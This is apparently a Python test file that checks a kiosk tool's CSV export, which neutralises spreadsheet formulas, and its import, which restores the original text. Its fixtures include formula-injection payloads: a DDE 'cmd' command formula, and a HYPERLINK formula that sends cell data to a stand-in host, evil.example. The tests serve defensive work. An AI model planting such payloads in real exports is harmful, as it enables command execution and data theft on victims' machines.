"""CSV export neutralises spreadsheet formulas; import gives back the original text."""

from __future__ import annotations

import csv

from hypothesis import given
from hypothesis import strategies as st

from kiosk.interop.formulas import guard, unguard

TRIGGERS = "=+-@\t\r"

HOSTILE = {
    "F-1": ("=cmd|' /C calc'!A0", "@SUM(1)"),
    "F-2": ("+1-1", '=HYPERLINK("http://evil.example/?"&A1,"Click")'),
    "F-3": ("-2+3", "'=already quoted by someone"),
    "F-4": ("'tis a name with a quote", "''=two quotes"),
    "+F-5": ("plain", "notes\n=on a later line stay as they are"),
}


def _cells(path):
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def test_export_neutralises_and_import_restores(seeded, tmp_path):
    for tag, (name, notes) in HOSTILE.items():
        assert seeded("asset", "add", tag, f"--name={name}", f"--notes={notes}").code == 0
    exported = tmp_path / "export.csv"
    assert seeded("asset", "export", str(exported)).code == 0
    cells = _cells(exported)
    assert not [c for c in cells if c[:1] in TRIGGERS and c], "a cell a spreadsheet would run"
    assert "'=cmd|' /C calc'!A0" in cells and "'@SUM(1)" in cells and "'+F-5" in cells
    assert "'tis a name with a quote" in cells  # no formula: left alone
    assert "''=already quoted by someone" in cells

    other = tmp_path / "other.db"
    assert seeded("init", db=other).code == 0
    run = seeded("asset", "import", str(exported), "--commit", json=True, db=other)
    assert run.code == 0, run
    for tag, (name, notes) in HOSTILE.items():
        got = seeded("asset", "show", tag, json=True, db=other).doc
        assert (got["name"], got["notes"]) == (name, notes)
    # and the stdout form is guarded the same way
    piped = seeded("asset", "export")
    assert "'@SUM(1)" in piped.out and ",@SUM(1)" not in piped.out


def test_a_guarded_file_reimports_as_a_no_op(seeded, tmp_path):
    for tag, (name, notes) in HOSTILE.items():
        seeded("asset", "add", tag, f"--name={name}", f"--notes={notes}")
    exported = tmp_path / "export.csv"
    seeded("asset", "export", str(exported))
    again = seeded("asset", "import", str(exported), "--commit", json=True)
    assert again.code == 0 and again.doc["changed"] == 0 and again.doc["added"] == 0


@given(st.text())
def test_unguard_undoes_guard(text):
    assert unguard(guard(text)) == text
    assert guard(text)[:1] not in TRIGGERS or not guard(text)
